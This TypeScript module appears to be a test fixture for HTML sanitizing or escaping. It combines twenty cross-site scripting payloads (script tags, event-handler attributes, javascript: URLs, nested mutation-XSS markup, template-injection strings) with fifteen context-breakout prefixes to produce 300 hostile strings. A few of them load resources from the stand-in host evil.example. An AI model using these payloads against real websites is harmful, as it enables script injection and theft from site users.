/** XSS payloads: twenty forms of executable markup × the ways to break out of the surrounding context. */
const CODE = [
  '<script>hack()</script>',
  '<img src=x onerror=hack()>',
  '<svg onload=hack()>',
  '<svg><script>hack()</script></svg>',
  '<body onload=hack()>',
  '<iframe srcdoc="<script>parent.hack()</script>"></iframe>',
  '<iframe src="javascript:parent.hack()"></iframe>',
  '<a href="javascript:hack()" id=evil>x</a>',
  '<details open ontoggle=hack()>x</details>',
  '<input autofocus onfocus=hack()>',
  '<video><source onerror=hack()></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hack()></style></mglyph></table></mtext></math>',
  '<object data="javascript:hack()"></object>',
  '<meta http-equiv=refresh content="0;url=javascript:hack()">',
  '<base href="https://evil.example/">',
  '<form action="javascript:hack()"><button autofocus>x</button></form>',
  '<style>@import "https://evil.example/a.css"; * { display: none }</style>',
  '[x](javascript:hack())',
  "{{constructor.constructor('hack()')()}}${hack()}",
  'javascript:hack()',
]
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '-->',
  '<!--',
  ']]>',
  '`',
  '\\">',
  '" onmouseover=hack() x="',
  '&lt;/p&gt;',
  '\u2028',
  '%3E',
]

/** Three hundred texts, ordered so that the first few all differ. */
export const hostileTexts: readonly string[] = WAYS_OUT.flatMap((way) => CODE.map((code) => way + code))
